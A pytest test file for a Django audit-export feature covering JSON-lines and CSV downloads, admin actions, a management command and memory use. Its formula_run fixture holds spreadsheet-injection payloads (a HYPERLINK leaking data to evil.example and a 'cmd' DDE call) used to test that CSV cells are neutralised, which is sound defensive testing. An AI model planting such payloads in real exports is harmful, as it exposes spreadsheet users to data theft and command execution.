"""Export of the audit (R-ADM-2): a run, a thread or a filtered set of runs
as JSON lines (one object per timeline row, the timeline API's fields) and
CSV, from the staff API, the admin and ``manage.py export_audit``, streamed
in constant memory."""

from __future__ import annotations

import csv
import datetime as dt
import gc
import io
import json
import tracemalloc
import uuid
from decimal import Decimal

import pytest
from asgiref.sync import async_to_sync
from django.core.management import CommandError, call_command
from django.test import AsyncClient
from django.urls import reverse

from audit import export
from audit.models import AgentRun
from audit.schemas import TimelineItemOut
from conversations.models import Conversation, Message
from tests.conftest import bearer
from yuxi_project.responses import encode_json

from .builders import AWKWARD, AWKWARD_VISIBLE, awkward_run, big_run

pytestmark = pytest.mark.django_db

FIELDS = list(TimelineItemOut.model_fields)


def lines_of(response) -> list[dict]:
    body = b"".join(response.streaming_content).decode()
    return [json.loads(line) for line in body.splitlines()]


def csv_of(response) -> list[dict]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


@pytest.fixture
def run_and_thread(thread):
    first = big_run(thread, rows=30, start=dt.datetime.now(dt.UTC) - dt.timedelta(hours=2))
    second = big_run(
        thread, rows=7, status=AgentRun.Status.FAILED, start=dt.datetime.now(dt.UTC) - dt.timedelta(hours=1)
    )
    AgentRun.objects.filter(pk=second.pk).update(error_type="tool_error")
    return first, second


def test_run_export_as_json_lines_is_the_timeline_api_row_for_row_R_ADM_2(client, staff_user, run_and_thread):
    run, _ = run_and_thread
    headers = bearer(staff_user)
    timeline = client.get(f"/api/audit/runs/{run.pk}/timeline", headers=headers).json()["items"]
    response = client.get(f"/api/audit/runs/{run.pk}/export", {"format": "jsonl"}, headers=headers)
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"].startswith("application/x-ndjson")
    assert f'filename="audit-run-{run.pk}.jsonl"' in response["Content-Disposition"]
    exported = lines_of(response)
    assert exported == timeline and len(exported) == 30
    assert list(exported[0]) == FIELDS
    assert exported[1]["raw_output"]["content"] == "raw envelope 2"


def test_run_export_as_csv_has_every_field_with_json_cells_R_ADM_2(client, staff_user, run_and_thread):
    run, _ = run_and_thread
    headers = bearer(staff_user)
    timeline = client.get(f"/api/audit/runs/{run.pk}/timeline", headers=headers).json()["items"]
    response = client.get(f"/api/audit/runs/{run.pk}/export", {"format": "csv"}, headers=headers)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = csv_of(response)
    assert len(rows) == 30 and list(rows[0]) == FIELDS
    for row, item in zip(rows, timeline, strict=True):
        assert row["id"] == str(item["id"]) and row["operation_id"] == item["operation_id"]
        assert json.loads(row["metadata"]) == item["metadata"]
        assert (json.loads(row["usage"]) if row["usage"] else None) == item["usage"]
        assert row["started_at"] == (item["started_at"] or "")
        assert row["is_final_answer"] == ("true" if item["is_final_answer"] else "false")


def test_thread_and_filtered_exports_keep_timeline_order_R_ADM_2(client, staff_user, run_and_thread, other_user):
    first, second = run_and_thread
    other_thread = Conversation.objects.create(user=other_user, agent_id="assistant", model="replay:plain_answer")
    big_run(other_thread, rows=4)
    headers = bearer(staff_user)
    thread_rows = lines_of(client.get(f"/api/audit/threads/{first.thread_id}/export", headers=headers))
    assert [r["run_id"] for r in thread_rows] == [str(first.pk)] * 30 + [str(second.pk)] * 7
    assert [r["sequence"] for r in thread_rows] == list(range(1, 31)) + list(range(1, 8))
    # The same filters as GET /api/audit/runs.
    failed = lines_of(client.get("/api/audit/runs/export", {"status": "failed"}, headers=headers))
    assert {r["run_id"] for r in failed} == {str(second.pk)} and len(failed) == 7
    by_error = csv_of(
        client.get("/api/audit/runs/export", {"error_type": "tool_error", "format": "csv"}, headers=headers)
    )
    assert len(by_error) == 7
    everything = lines_of(client.get("/api/audit/runs/export", headers=headers))
    assert len(everything) == 41
    runs_in_order = list(dict.fromkeys(r["run_id"] for r in everything))
    assert runs_in_order == [str(r.pk) for r in AgentRun.objects.order_by("created_at", "pk")]


def test_text_postgresql_cannot_hold_exports_as_the_timeline_shows_it_R_ADM_2_R_RUN_13(
    client, staff_user, thread, tmp_path
):
    """A NUL and a lone surrogate in the input, tool input and output, raw
    output, tool error and answer: the download completes (a lone surrogate
    used to cut it with UnicodeEncodeError), every JSON line parses to the
    timeline API's item, and every CSV text cell holds the form the admin
    shows (``visible``), its JSON cells the API's JSON."""
    run = awkward_run(thread)
    headers = bearer(staff_user)
    timeline = client.get(f"/api/audit/runs/{run.pk}/timeline", headers=headers).json()["items"]
    assert [item["content"] for item in timeline] == [AWKWARD] * 4

    exported = lines_of(client.get(f"/api/audit/runs/{run.pk}/export", {"format": "jsonl"}, headers=headers))
    assert exported == timeline
    assert exported[1]["tool_input"] == {"query": AWKWARD} and exported[1]["raw_output"]["content"] == AWKWARD

    rows = csv_of(client.get(f"/api/audit/runs/{run.pk}/export", {"format": "csv"}, headers=headers))
    assert [row["content"] for row in rows] == [AWKWARD_VISIBLE] * 4
    for row, item in zip(rows, timeline, strict=True):
        for name in ("tool_calls", "tool_input", "metadata", "raw_output"):
            assert row[name] == ("" if item[name] is None else encode_json(item[name]).decode())
    assert json.loads(rows[2]["metadata"])["tool_error"] == AWKWARD
    # The command writes the same text to a UTF-8 file.
    out = tmp_path / "run.jsonl"
    call_command("export_audit", "--run", str(run.pk), "--output", str(out))
    assert [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()] == timeline


FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def formula_run(thread) -> AgentRun:
    """A completed run with, for each of :data:`FORMULA_STARTS`, a model
    answer, a tool execution (name, input and output) and a raw output
    starting with that character; the model calls have a cost."""
    start = dt.datetime.now(dt.UTC) - dt.timedelta(minutes=5)
    run = AgentRun.objects.create(
        request_id=f"formula-{uuid.uuid4().hex}",
        thread=thread,
        user=thread.user,
        agent_id=thread.agent_id,
        model=thread.model,
        status=AgentRun.Status.COMPLETED,
        started_at=start,
        finished_at=start + dt.timedelta(seconds=30),
    )
    common = {"thread": thread, "run": run, "execution_status": Message.ExecutionStatus.COMPLETED}
    for i, char in enumerate(FORMULA_STARTS):
        at = start + dt.timedelta(seconds=2 * i)
        model = Message.objects.create(
            **common,
            role=Message.Role.ASSISTANT,
            message_type=Message.Type.MODEL_AUDIT,
            operation_id=f"lc_run--formula-{i}",
            sequence=2 * i + 1,
            started_at=at,
            finished_at=at + dt.timedelta(milliseconds=400),
            duration_ms=400,
            usage={"input_tokens": 10, "output_tokens": 5, "total_tokens": 15},
            cost_usd=Decimal("0.000108"),
            content=f'{char}HYPERLINK("http://evil.example/?leak="&A1,"click")',
            metadata={"model_name": "replay-model"},
        )
        Message.objects.create(
            **common,
            role=Message.Role.TOOL,
            message_type=Message.Type.TOOL_AUDIT,
            declared_by=model,
            operation_id=f"call_formula_{i}",
            sequence=2 * i + 2,
            started_at=at + dt.timedelta(seconds=1),
            finished_at=at + dt.timedelta(milliseconds=1200),
            duration_ms=200,
            tool_name=f"{char}lookup",
            tool_input=f"{char}1 apples",
            content=f"{char}cmd|' /C calc'!A0",
            metadata={"raw_output": {"type": "tool", "content": f"{char}cmd"}},
        )
    return run


def test_csv_neutralises_text_a_spreadsheet_would_run_as_a_formula_R_ADM_3(client, staff_user, thread):
    """An answer, a tool name and a tool output starting with ``=``, ``+``,
    ``-``, ``@``, a tab or a carriage return are CSV cells starting with
    ``'`` and then the text; numbers (ids, sequences, durations, costs) are
    as they were; a tool input (a JSON cell) is its JSON text, which starts
    with ``"`` and so is never a formula; the JSON lines are the API's."""
    run = formula_run(thread)
    headers = bearer(staff_user)
    timeline = client.get(f"/api/audit/runs/{run.pk}/timeline", headers=headers).json()["items"]
    rows = csv_of(client.get(f"/api/audit/runs/{run.pk}/export", {"format": "csv"}, headers=headers))
    assert len(rows) == len(timeline) == 2 * len(FORMULA_STARTS)
    for row, item in zip(rows, timeline, strict=True):
        assert row["content"] == "'" + item["content"] and row["content"][1] in FORMULA_STARTS
        for name in ("id", "sequence", "duration_ms", "attempt"):
            assert row[name] == str(item[name])
        if item["kind"] == "model":
            assert row["cost_usd"] == item["cost_usd"] == "0.000108"
            assert json.loads(row["usage"]) == item["usage"]
        else:
            assert row["tool_name"] == "'" + item["tool_name"]
            assert row["declared_by_id"] == str(item["declared_by_id"])
            assert row["tool_input"] == encode_json(item["tool_input"]).decode() and row["tool_input"][0] == '"'
            assert json.loads(row["tool_input"])[0] in FORMULA_STARTS
            assert json.loads(row["raw_output"]) == item["raw_output"]
    # Status, ids and times are not touched.
    assert {row["status"] for row in rows} == {"completed"} and rows[0]["run_id"] == str(run.pk)
    assert rows[0]["started_at"] == timeline[0]["started_at"]

    exported = lines_of(client.get(f"/api/audit/runs/{run.pk}/export", {"format": "jsonl"}, headers=headers))
    assert exported == timeline
    assert [item["content"][0] for item in exported] == [c for c in FORMULA_STARTS for _ in range(2)]


def test_csv_keeps_negative_numbers_and_prefixes_text_that_looks_like_one_R_ADM_3():
    """A negative number the export writes (an int, or a cost's decimal
    string) is a number; text such as ``-1 apples`` is text."""
    item = {"duration_ms": -5, "cost_usd": "-0.25", "content": "-1 apples", "tool_name": "plain"}
    header, line = "".join(export.render([item], "csv")).splitlines()
    row = dict(zip(header.split(","), next(csv.reader([line])), strict=True))
    assert (row["duration_ms"], row["cost_usd"]) == ("-5", "-0.25")
    assert (row["content"], row["tool_name"]) == ("'-1 apples", "plain")


def test_export_is_for_staff_and_refuses_bad_input_R_ADM_2_R_READ_5(client, user, staff_user, run_and_thread):
    run, _ = run_and_thread
    assert client.get(f"/api/audit/runs/{run.pk}/export").status_code == 401
    assert client.get(f"/api/audit/runs/{run.pk}/export", headers=bearer(user)).status_code == 403
    assert client.get("/api/audit/runs/export", headers=bearer(user)).status_code == 403
    headers = bearer(staff_user)
    bad_format = client.get(f"/api/audit/runs/{run.pk}/export", {"format": "xml"}, headers=headers)
    assert bad_format.status_code == 422 and bad_format.json()["error"]["code"] == "invalid_input"
    missing = client.get("/api/audit/runs/00000000-0000-0000-0000-000000000000/export", headers=headers)
    assert missing.status_code == 404 and missing.json()["error"]["code"] == "not_found"
    assert (
        client.get("/api/audit/threads/00000000-0000-0000-0000-000000000000/export", headers=headers).status_code == 404
    )
    assert client.get("/api/audit/runs/export", {"status": "nope"}, headers=headers).status_code == 422


def test_admin_exports_a_run_a_thread_and_the_selected_runs_R_ADM_2(client, staff_user, run_and_thread):
    first, second = run_and_thread
    client.force_login(staff_user)
    page = client.get(reverse("admin:audit_agentrun_change", args=[first.pk])).content.decode()
    run_export = reverse("admin:audit_agentrun_export", args=[first.pk])
    assert f"{run_export}?format=jsonl" in page and f"{run_export}?format=csv" in page
    assert len(lines_of(client.get(run_export, {"format": "jsonl"}))) == 30
    assert len(csv_of(client.get(run_export, {"format": "csv"}))) == 30
    thread_page = client.get(
        reverse("admin:conversations_conversation_change", args=[first.thread_id])
    ).content.decode()
    thread_export = reverse("admin:conversations_conversation_export", args=[first.thread_id])
    assert thread_export in thread_page
    assert len(lines_of(client.get(thread_export))) == 37

    changelist = reverse("admin:audit_agentrun_changelist")
    selected = client.post(changelist, {"action": "export_csv", "_selected_action": [str(second.pk)]})
    assert selected.status_code == 200 and len(csv_of(selected)) == 7
    # "Select all" with a filter: every run the filter matches.
    across = client.post(
        f"{changelist}?status=completed",
        {"action": "export_jsonl", "select_across": "1", "_selected_action": [str(first.pk)]},
    )
    assert {r["run_id"] for r in lines_of(across)} == {str(first.pk)}


def test_admin_export_needs_permission(client, django_user_model, run_and_thread):
    first, _ = run_and_thread
    plain_staff = django_user_model.objects.create_user(
        username="plain-exporter", password="pw-12345678", is_staff=True
    )
    client.force_login(plain_staff)
    assert client.get(reverse("admin:audit_agentrun_export", args=[first.pk])).status_code == 403
    assert client.get(reverse("admin:conversations_conversation_export", args=[first.thread_id])).status_code == 403


def test_management_command_exports_runs_threads_and_filters(tmp_path, run_and_thread, capsys):
    first, second = run_and_thread
    out = tmp_path / "run.csv"
    call_command("export_audit", "--run", str(first.pk), "--format", "csv", "--output", str(out))
    assert len(list(csv.DictReader(out.open()))) == 30
    call_command("export_audit", "--thread", str(first.thread_id))
    assert len(capsys.readouterr().out.splitlines()) == 37
    call_command("export_audit", "--status", "failed", "--tool-status", "failed")
    exported = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert {r["run_id"] for r in exported} == {str(second.pk)}
    for args, message in (
        (["--run", "nope"], "is not an id"),
        (["--run", "00000000-0000-0000-0000-000000000000"], "no run"),
        (["--status", "bogus"], "unknown run status"),
        (["--min-duration-ms", "soon"], "--min_duration_ms"),
        (["--run", str(first.pk), "--status", "failed"], "without --run"),
    ):
        with pytest.raises(CommandError, match=message):
            call_command("export_audit", *args)


def _peak_bytes(run_id) -> tuple[int, int]:
    """Peak memory (bytes) of producing the run's JSON lines, and the
    number of lines."""
    gc.collect()
    tracemalloc.start()
    lines = 0
    try:
        for piece in export.render(export.records(export.run_rows(run_id)), "jsonl"):
            lines += piece.count("\n")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return peak, lines


@pytest.mark.slow
def test_export_of_a_20000_row_run_streams_in_constant_memory_R_ADM_2(thread, staff_user):
    """Peak memory of exporting 20,000 rows is that of 2,000 rows (chunks of
    ``ROW_CHUNK`` rows, text sent in pieces), not ten times it; the figures
    are printed. Over the ASGI handler the body arrives in many pieces."""
    small = big_run(thread, rows=2_000)
    large = big_run(thread, rows=20_000)
    small_peak, small_lines = _peak_bytes(small.pk)
    large_peak, large_lines = _peak_bytes(large.pk)
    assert (small_lines, large_lines) == (2_000, 20_000)
    print(
        f"\nbenchmark: export peak memory {small_peak / 1e6:.1f} MB for 2,000 rows, {large_peak / 1e6:.1f} MB for 20,000"
    )
    assert large_peak < 1.5 * small_peak

    headers = bearer(staff_user)

    async def stream() -> tuple[int, int, list[int]]:
        response = await AsyncClient().get(f"/api/audit/runs/{large.pk}/export", headers=headers)
        assert response.status_code == 200
        pieces, lines, sequences = 0, 0, []
        async for piece in response.streaming_content:
            pieces += 1
            for line in piece.decode().splitlines():
                lines += 1
                if lines % 5000 == 1:
                    sequences.append(json.loads(line)["sequence"])
        return pieces, lines, sequences

    pieces, lines, sequences = async_to_sync(stream)()
    assert lines == 20_000 and sequences == [1, 5001, 10001, 15001]
    assert pieces > 10
